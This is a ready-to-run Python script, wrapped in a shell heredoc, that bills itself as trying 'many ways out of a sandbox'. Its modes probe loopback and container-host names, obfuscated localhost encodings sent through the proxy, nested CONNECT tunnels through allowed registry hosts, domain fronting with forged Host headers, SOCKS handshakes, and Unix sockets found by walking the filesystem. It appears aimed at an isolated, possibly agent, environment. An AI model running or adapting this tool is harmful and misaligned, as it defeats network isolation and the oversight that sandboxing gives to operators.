python3 - "$@" <<'END_OF_SCRIPT'
# reach.sh MODE PORT...   prints whatever answers, by one of many ways out of a sandbox
import os, re, socket, ssl, struct, sys
mode, ports = sys.argv[1], [int(each) for each in sys.argv[2:]]
SELF = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1")
ODD = ("localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1.", "[::1]",
       "[::ffff:127.0.0.1]", "127.0.0.1%00.example.org", "a@127.0.0.1", "127.0.0.1#", "LOCALHOST.")
NAMES = ("localhost", "ip6-localhost", "host.docker.internal", "gateway.docker.internal",
         "host.containers.internal", "kubernetes.default.svc", "_gateway", socket.gethostname())
proxy = re.search(r"//(?:[^@/]*@)?([^:/]+):(\d+)", os.environ.get("https_proxy", ""))
proxy = (proxy[1], int(proxy[2])) if proxy else ("127.0.0.1", 3128)
allowed = re.findall(r"https://([^/:@\s]+)", " ".join(
    value for name, value in os.environ.items() if re.search("(?i)index|registry|url", name)))
show = sys.stdout.buffer.write


def hear(talk, say=b""):
    """Say something, and print what comes back."""
    talk.settimeout(3)
    if say:
        talk.sendall(say)
    while data := talk.recv(1 << 16):
        show(data)


def attempt(action, *arguments):
    try:
        action(*arguments)
    except (OSError, ValueError, UnicodeError):
        pass  # this way is closed


def direct(host, port):
    with socket.create_connection((host, port), 2) as talk:
        hear(talk, b"GET / HTTP/1.0\r\n\r\n")


def datagram(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as talk:
        talk.settimeout(1)
        talk.sendto(b"hello", (host, port))
        show(talk.recv(1 << 16))


def echo(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as talk:
        talk.settimeout(1)
        talk.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1), (host, 0))
        if talk.recv(1 << 16) and host not in SELF:
            show(b"ICMP " + host.encode())


def ask(first, *more):
    """Say something to the proxy, and more once it answered."""
    with socket.create_connection(proxy, 2) as talk:
        talk.settimeout(3)
        talk.sendall(first)
        for each in more:
            if not (said := talk.recv(1 << 16)):
                return
            show(said)
            talk.sendall(each)
        hear(talk)


def connect(host):
    return f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode("latin-1")


def fronted(host, name, port, header):
    """A tunnel to who is allowed, and in it the name of another."""
    context = ssl._create_unverified_context()
    with socket.create_connection(proxy, 2) as talk:
        talk.settimeout(5)
        talk.sendall(connect(f"{host}:443"))
        talk.recv(1 << 16)
        with context.wrap_socket(talk, server_hostname=name) as tls:
            hear(tls, f"GET / HTTP/1.1\r\n{header.format(host=host, to=f'127.0.0.1:{port}')}"
                      "Connection: close\r\n\r\n".encode())


def unix(path, port):
    with socket.socket(socket.AF_UNIX) as talk:
        talk.settimeout(2)
        talk.connect(path)
        hear(talk, connect(f"127.0.0.1:{port}"))


def sockets():
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc/", "/sys/")):
            continue
        yield from (os.path.join(folder, name) for name in names)
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        if "@" in line:
            yield "\0" + line.rpartition("@")[2]


for port in ports:
    if mode == "direct":
        for host in SELF:
            attempt(direct, host, port)
    elif mode == "datagram":
        for host in SELF:
            attempt(datagram, host, port)
    elif mode == "names":
        for name in NAMES:
            attempt(direct, name, port)
    elif mode == "tunnel":
        for host in (*SELF[:3], *ODD):
            attempt(ask, connect(f"{host}:{port}"), b"GET / HTTP/1.0\r\n\r\n")
    elif mode == "plain":
        for host in (*SELF[:3], *ODD):
            attempt(ask, f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            attempt(ask, f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    elif mode == "nested":
        for host in allowed or ("example.org",):
            attempt(ask, connect(f"{host}:443"), connect(f"127.0.0.1:{port}"), b"GET / HTTP/1.0\r\n\r\n")
    elif mode == "fronted":
        headers = ("Host: {to}\r\n", "Host: {host}\r\nHost: {to}\r\n", "Host:\r\n {to}\r\n")
        for host in allowed or ("example.org",):
            for header in headers:
                attempt(fronted, host, host, port, header)
            for name in ("localhost", None):
                attempt(fronted, host, name, port, headers[0])
    elif mode == "socks":
        at = socket.inet_aton("127.0.0.1") + struct.pack("!H", port)
        attempt(ask, b"\5\1\0", b"\5\1\0\1" + at, b"GET / HTTP/1.0\r\n\r\n")
        attempt(ask, b"\4\1" + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + b"\0", b"hi\r\n")
    elif mode == "unix":
        for path in sockets():
            attempt(unix, path, port)
END_OF_SCRIPT
